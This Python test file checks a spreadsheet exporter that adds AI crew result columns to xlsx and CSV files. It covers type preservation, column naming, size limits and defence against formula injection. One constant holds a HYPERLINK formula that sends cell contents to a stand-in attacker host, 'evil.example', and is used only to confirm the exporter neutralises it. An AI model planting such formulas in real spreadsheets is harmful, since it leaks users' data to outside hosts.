"""The enriched sheet: every original cell as it was (types and date formats in .xlsx, the same
text in CSV), the crews' columns after them, and nothing a spreadsheet would run as a formula."""

import csv
import io
import time
import tracemalloc
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from crewdash.base.errors import SheetError
from crewdash.present.sheet_export import (
    enriched_columns,
    enriched_csv,
    enriched_filename,
    enriched_xlsx,
)
from crewdash.present.sheet_results import RowResult
from crewdash.sheets.reader import read_sheet
from crewdash.sheets.sheet import Sheet

pytestmark = pytest.mark.timeout(60)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"click")'
NEW = [
    "crew: state",
    "crew: output",
    "crew: latency s",
    "crew: tokens",
    "crew: cost USD",
    "crew: error",
]


def source_xlsx() -> bytes:
    book = Workbook()
    book.active.title = "Intro"
    book.active.append(["not this one"])
    ws = book.create_sheet("Q3")
    ws.append(["Name", "Code", "Joined", "Seen at", "Score", "Share", "Notes", "Double"])
    ws.append(["Zoë", "007", date(2024, 1, 2), datetime(2024, 3, 4, 9, 30), 12, 0.25, "✓ ok",
               "=E2*2"])  # fmt: skip
    ws.append(["Bob", "0042", date(1999, 12, 31), None, 2.5, 1, None, "=E3*2"])
    ws.append([None, None, None, None, None, None, "only notes", None])
    for row in (2, 3):
        ws.cell(row, 6).number_format = "0.00%"
        ws.cell(row, 3).number_format = "dd/mm/yyyy"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def results(n: int = 3) -> list[RowResult]:
    done = RowResult("succeeded", "An answer", (), 1.23456, 150, 0.0000015, None)
    failed = RowResult("failed", None, (), 0.5, 10, None, "RuntimeError: boom")
    out = [done, failed, RowResult("skipped", error="the row is blank")]
    return (out * n)[:n]


def xlsx_bytes(sheet: Sheet, rows: list[RowResult]) -> bytes:
    out = io.BytesIO()
    enriched_xlsx(sheet, rows, out)
    return out.getvalue()


def csv_rows(sheet: Sheet, rows: list[RowResult], **kw: object) -> list[list[str]]:
    text = "".join(enriched_csv(sheet, rows, **kw))  # type: ignore[arg-type]
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=sheet.delimiter))


def test_the_enriched_xlsx_keeps_every_original_cell_its_type_and_format() -> None:
    data = source_xlsx()
    sheet = read_sheet(data, "leads.xlsx", "Q3")
    out = load_workbook(io.BytesIO(xlsx_bytes(sheet, results())))
    assert out.sheetnames == ["Q3"]
    ws = out["Q3"]
    original = load_workbook(io.BytesIO(data))["Q3"]
    width = original.max_column
    for got, want in zip(ws.iter_rows(max_col=width), original.iter_rows(), strict=True):
        for g, w in zip(got, want, strict=True):
            assert g.value == w.value, g.coordinate
            assert type(g.value) is type(w.value), g.coordinate
            assert g.number_format == w.number_format, g.coordinate
    assert isinstance(ws["C2"].value, datetime) and ws["C2"].is_date  # a date is a date
    assert ws["C2"].number_format == "dd/mm/yyyy" and ws["F2"].number_format == "0.00%"
    # a formula with no saved value came in as text and goes out as text, never a formula
    assert ws["H2"].value == "=E2*2" and ws["H2"].data_type == "s"
    header = [c.value for c in ws[1]]
    assert header == [c.value for c in original[1]] + NEW
    assert ws.freeze_panes == "A2"
    first_new = ws.cell(1, width + 1)
    assert first_new.fill.fgColor.rgb == "00FFF2CC" and first_new.font.b
    assert not ws.cell(1, 1).fill.fgColor.rgb == "00FFF2CC"
    assert [c.value for c in ws[2]][width:] == ["succeeded", "An answer", 1.235, 150, 0.0000015,
                                                None]  # fmt: skip
    assert ws.cell(2, width + 3).number_format == "0.00"
    assert [c.value for c in ws[4]][width:] == ["skipped", None, None, None, None,
                                                "the row is blank"]  # fmt: skip


def test_the_enriched_csv_keeps_every_original_csv_cell_as_the_same_text() -> None:
    rows = [
        ["id", "Name", "Note", "Amount"],
        ["007", "Renée", 'two\nlines; with "quotes"', "1,50"],
        ["", "", "", ""],
        ["0042", "Straße", "", "-3"],
    ]
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=";").writerows(rows)
    sheet = read_sheet(b"\xef\xbb\xbf" + text.getvalue().encode(), "people.csv")
    assert sheet.delimiter == ";"
    got = csv_rows(sheet, results())
    assert [r[:4] for r in got] == rows
    assert got[0][4:] == NEW
    assert got[1][4:] == ["succeeded", "An answer", "1.235", "150", "0.00000150", ""]
    assert got[2][4:] == ["failed", "", "0.500", "10", "", "RuntimeError: boom"]
    assert got[3][4:] == ["skipped", "", "", "", "", "the row is blank"]


def test_a_workbook_as_csv_writes_dates_iso_and_whole_numbers_without_a_point() -> None:
    sheet = read_sheet(source_xlsx(), "leads.xlsx", "Q3")
    got = csv_rows(sheet, results())
    assert got[1][:8] == ["Zoë", "007", "2024-01-02", "2024-03-04 09:30:00", "12", "0.25",
                          "✓ ok", "'=E2*2"]  # fmt: skip
    assert got[2][:6] == ["Bob", "0042", "1999-12-31", "", "2.5", "1"]


def test_a_csv_as_xlsx_keeps_every_cell_a_string() -> None:
    sheet = read_sheet(b"id,n\n007,1.50\n0042,-3\n", "ids.csv")
    ws = load_workbook(io.BytesIO(xlsx_bytes(sheet, results(2)))).active
    assert ws.title == "ids"
    assert [[c.value for c in row][:2] for row in ws.iter_rows()] == [
        ["id", "n"], ["007", "1.50"], ["0042", "-3"],
    ]  # fmt: skip
    assert {c.data_type for row in ws.iter_rows(max_col=2) for c in row} == {"s"}


def test_openpyxl_left_alone_would_write_a_formula() -> None:
    """Why the writer forces the type: a plain str starting with "=" is a formula to openpyxl."""
    book = Workbook(write_only=True)
    ws = book.create_sheet("S")
    ws.append([HYPERLINK])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).active["A1"].data_type == "f"


def test_an_output_that_is_a_formula_is_a_string_cell_in_xlsx_and_neutralised_in_csv() -> None:
    sheet = read_sheet(b"topic\n=1+1\nplain\n", "t.csv")
    rows = [
        RowResult("succeeded", HYPERLINK, error="@SUM(A1:A9)"),
        RowResult("succeeded", "#N/A", (), None, None, None, "-2+3"),
    ]
    data = xlsx_bytes(sheet, rows)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the file
    ws = load_workbook(io.BytesIO(data)).active
    for ref in ("A2", "C2", "G2", "C3", "G3"):
        assert ws[ref].data_type == "s", ref
    assert ws["C2"].value == HYPERLINK and ws["A2"].value == "=1+1"
    assert ws["C3"].value == "#N/A"  # text, not an error cell
    assert ws["C2"].quotePrefix and ws["A2"].quotePrefix and not ws["A3"].quotePrefix
    got = csv_rows(sheet, rows)
    assert got[1][:3] == ["'=1+1", "succeeded", "'" + HYPERLINK]
    assert got[1][-1] == "'@SUM(A1:A9)" and got[2][-1] == "'-2+3"


def test_structured_outputs_and_multi_task_crews_get_a_column_each() -> None:
    sheet = read_sheet(b"topic\na\nb\n", "t.csv")
    rows = [
        RowResult("succeeded", '{"name": "Acme", "score": 3}',
                  (("research", "notes a"), ("write", '{"name": "Acme", "score": 3}'))),
        RowResult("succeeded", '```json\n{"score": 4.5, "extra": [1]}\n```',
                  (("research", "notes b"), ("research", "again"))),
    ]  # fmt: skip
    columns = enriched_columns(sheet, rows)
    assert columns == (
        "topic", "crew: state", "crew: output", "crew: output.name", "crew: output.score",
        "crew: output.extra", "crew: task research", "crew: task write",
        "crew: task research (2)", "crew: latency s", "crew: tokens", "crew: cost USD",
        "crew: error",
    )  # fmt: skip
    got = csv_rows(sheet, rows)
    assert got[1][3:9] == ["Acme", "3", "", "notes a", '{"name": "Acme", "score": 3}', ""]
    assert got[2][3:9] == ["", "4.5", "[1]", "notes b", "", "again"]
    ws = load_workbook(io.BytesIO(xlsx_bytes(sheet, rows))).active
    assert ws["E2"].value == 3 and ws["E3"].value == 4.5  # numbers stay numbers


def test_an_enriched_sheet_enriched_again_gets_distinct_column_names() -> None:
    sheet = read_sheet(b"topic,crew: state,crew: output\na,succeeded,old\n", "again.csv")
    columns = enriched_columns(sheet, [RowResult()])
    assert columns[3:6] == ("crew: state (2)", "crew: output (2)", "crew: latency s")
    assert len(set(columns)) == len(columns)
    assert read_sheet(xlsx_bytes(sheet, [RowResult()]), "again.xlsx").columns == columns


def test_a_long_output_is_cut_at_excels_cell_limit_in_xlsx_and_whole_in_csv() -> None:
    sheet = read_sheet(b"topic\na\n", "t.csv")
    long_text = "x\x01y" + "z" * 40_000
    rows = [RowResult("succeeded", long_text)]
    cell = load_workbook(io.BytesIO(xlsx_bytes(sheet, rows))).active["C2"].value
    assert len(cell) == 32_767 and cell.startswith("x\ufffdy")
    assert cell.endswith("… [cut at Excel's limit of 32,767 characters of 40,003]")
    assert csv_rows(sheet, rows)[1][2] == long_text


def test_results_must_match_the_rows() -> None:
    sheet = read_sheet(b"topic\na\nb\n", "t.csv")
    with pytest.raises(SheetError, match="1 results for the 2 rows of the sheet"):
        list(enriched_csv(sheet, [RowResult()]))


def test_the_enriched_file_name() -> None:
    assert enriched_filename("Q3 leads.xlsx", "xlsx") == "Q3 leads.enriched.xlsx"
    assert enriched_filename("leads.csv", ".csv") == "leads.enriched.csv"


def test_ten_thousand_rows_write_in_bounded_time_and_memory() -> None:
    """Loose bounds, not a benchmark: 10,000 rows of 8 columns and a 600-character answer."""
    columns = ("id", "name", "when", "amount", "a", "b", "c", "d")
    rows = tuple(
        (f"{i:05d}", f"Company {i}", date(2024, 1, 1 + i % 28), i * 1.5, "x", "y", "z", None)
        for i in range(10_000)
    )
    formats = {(i, 2): "yyyy-mm-dd" for i in range(10_000)}
    sheet = Sheet("big.xlsx", "xlsx", columns, rows, "Excel sheet 'S' of 1", formats, ("S",), "S")
    answer = "An answer of some length. " * 24
    rows_out = [RowResult("succeeded", answer, (), 3.2, 900, 0.001) for _ in range(10_000)]
    tracemalloc.start()
    started = time.perf_counter()
    out = io.BytesIO()
    enriched_xlsx(sheet, rows_out, out)
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 30, f"{elapsed:.1f} s"
    # The rows stream to a temporary file: the peak is far below the ~6 MB of answers times
    # openpyxl's in-memory cell objects (a workbook built in memory peaks near 100 MB).
    assert peak < 40 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"
    ws = load_workbook(io.BytesIO(out.getvalue()), read_only=True).active
    assert sum(1 for _ in ws.iter_rows(values_only=True)) == 10_001
    print(f"10,000 rows: {elapsed:.1f} s, peak {peak / 1e6:.1f} MB, {len(out.getvalue()):,} B")


def test_a_pipe_separated_sheet_is_written_with_commas() -> None:
    sheet = read_sheet(b"a|b\n1|x,y\n", "p.csv")
    text = "".join(enriched_csv(sheet, [RowResult()], bom=False))
    assert text.splitlines()[1] == '1,"x,y",not started,,,,,'
